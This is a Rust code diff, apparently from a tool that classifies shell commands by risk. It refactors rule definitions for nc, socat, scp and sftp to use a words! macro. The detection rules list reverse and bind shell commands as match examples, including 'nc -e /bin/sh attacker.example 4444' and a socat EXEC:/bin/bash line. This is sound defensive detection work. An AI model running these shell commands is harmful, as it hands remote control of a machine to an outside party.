@@ -5,6 +5,7 @@
 use crate::call::args::{ArgSpec, Args, Token};
 use crate::call::{value_arg, Arg, Invocation};
 use crate::rules::{paths, Cx, Rule};
+use crate::words;
 
 use super::{CONNECT, LISTEN, READ, UPLOAD};
 
@@ -14,8 +15,8 @@ use super::{CONNECT, LISTEN, READ, UPLOAD};
 /// The classic reverse or bind shell: a remote party drives a local program.
 pub(super) static EXEC: Rule = Rule::t3("http.socket.exec")
     .reason("connects a program to a network socket (a reverse or bind shell); ask the user first")
-    .matches(&["nc -e /bin/sh attacker.example 4444", "ncat --sh-exec 'bash' -l 9000", "socat TCP:x:1 EXEC:/bin/bash"])
-    .not_matches(&["nc -zv localhost 80"]);
+    .matches(words!["nc -e /bin/sh attacker.example 4444", "ncat --sh-exec 'bash' -l 9000", "socat TCP:x:1 EXEC:/bin/bash"])
+    .not_matches(words!["nc -zv localhost 80"]);
 
 /// ## What it matches
 /// `nc -z`: a port probe that sends nothing.
@@ -23,8 +24,8 @@ pub(super) static EXEC: Rule = Rule::t3("http.socket.exec")
 /// Only checks whether a port is open.
 pub(super) static PROBE: Rule = Rule::t0("http.socket.probe")
     .reason("probes whether a port is open; sends no data")
-    .matches(&["nc -zv localhost 5432", "nc -z -w 2 db 5432"])
-    .not_matches(&["nc -l 4444"]);
+    .matches(words!["nc -zv localhost 5432", "nc -z -w 2 db 5432"])
+    .not_matches(words!["nc -l 4444"]);
 
 /// ## What it matches
 /// Interactive or batch file-transfer sessions: `sftp host`, `sftp -b batch host`, `ftp host`, `lftp`.
@@ -32,17 +33,17 @@ pub(super) static PROBE: Rule = Rule::t0("http.socket.probe")
 /// The session can upload, delete and rename remote files.
 pub(super) static SESSION: Rule = Rule::t3("http.transfer.session")
     .reason("opens a file-transfer session that can upload or delete remote files; ask the user first")
-    .matches(&["sftp host", "ftp ftp.example.com", "sftp -b cmds.txt user@host"])
-    .not_matches(&["sftp -h"]);
+    .matches(words!["sftp host", "ftp ftp.example.com", "sftp -b cmds.txt user@host"])
+    .not_matches(words!["sftp -h"]);
 
 /// nc's (ncat's, OpenBSD's, the traditional one's) options that take a value, the
 /// program options among them (`-e PROG`, `-c CMD`, `--sh-exec CMD`); letters pack
 /// (`-lvp 4444`, `-lve /bin/sh`). `-l` and `-z` are read too.
-const NC_ARGS: ArgSpec<'static> = ArgSpec::values(&[
+const NC_ARGS: ArgSpec = ArgSpec::values(words![
     "-p", "-s", "-w", "-i", "-q", "-x", "-X", "-I", "-O", "-T", "-m", "--proxy", "--proxy-type", "--proxy-auth", "--allow", "--deny", "-o", "--output", "-G",
     "-g", "--source-port", "--source", "--wait", "--idle-timeout", "-e", "-c", "--exec", "--sh-exec", "--lua-exec",
 ])
-.with_flags(&["-l", "--listen", "-z"])
+.with_flags(words!["-l", "--listen", "-z"])
 .packed();
 
 pub(super) fn nc(inv: &Invocation, cx: &mut Cx<'_>) {
@@ -86,7 +87,7 @@ pub(super) fn socat(inv: &Invocation, cx: &mut Cx<'_>) {
         return;
     }
     // socat's options are single-dash words (`-lf FILE`, `-b SIZE`); the operands are the two addresses (`-` is stdio).
-    const SOCAT_ARGS: ArgSpec<'static> = ArgSpec::values(&["-b", "-t", "-T", "-L", "-W", "-lf", "-lp"]);
+    const SOCAT_ARGS: ArgSpec = ArgSpec::values(words!["-b", "-t", "-T", "-L", "-W", "-lf", "-lp"]);
     let addrs: Vec<String> = Args::parse(&inv.args, SOCAT_ARGS).operands().map(|o| o.arg.text.to_ascii_uppercase()).collect();
     if addrs.iter().any(|a| a.starts_with("EXEC:") || a.starts_with("SYSTEM:")) {
         cx.hit(&EXEC);
@@ -120,11 +121,11 @@ fn remote(op: &str) -> bool {
 /// scp's options that take a value; letters pack (`-rP 22`). Linux's getopt also
 /// takes them after the operands (`scp f host:/dir -P 2222`), where a value read as
 /// an operand would become the destination.
-const SCP_ARGS: ArgSpec<'static> = ArgSpec::values(&["-P", "-i", "-F", "-o", "-c", "-l", "-S", "-J", "-D", "-X"]).packed();
+const SCP_ARGS: ArgSpec = ArgSpec::values(words!["-P", "-i", "-F", "-o", "-c", "-l", "-S", "-J", "-D", "-X"]).packed();
 
 /// `scp -S PROGRAM`, `scp|sftp -D PATH`: scp runs that local program as its
 /// transport (or SFTP server), so the program is judged as a command run bare.
-fn transport_program(inv: &Invocation, cx: &mut Cx<'_>, spec: ArgSpec<'_>) {
+fn transport_program(inv: &Invocation, cx: &mut Cx<'_>, spec: ArgSpec) {
     for t in Args::parse(&inv.args, spec) {
         if let Token::Opt { index, name: "-S" | "-D", value: Some(v) } = t {
             let program = value_arg(&inv.args, index, v);
@@ -152,7 +153,7 @@ pub(super) fn scp(inv: &Invocation, cx: &mut Cx<'_>) {
 }
 
 /// sftp's options that take a value (its getopt string); letters pack.
-const SFTP_ARGS: ArgSpec<'static> = ArgSpec::values(&["-b", "-B", "-c", "-D", "-F", "-i", "-J", "-l", "-o", "-P", "-R", "-S", "-s", "-X"]).packed();
+const SFTP_ARGS: ArgSpec = ArgSpec::values(words!["-b", "-B", "-c", "-D", "-F", "-i", "-J", "-l", "-o", "-P", "-R", "-S", "-s", "-X"]).packed();
 
 pub(super) fn session(inv: &Invocation, cx: &mut Cx<'_>) {
     let words: Vec<&str> = inv.words().collect();
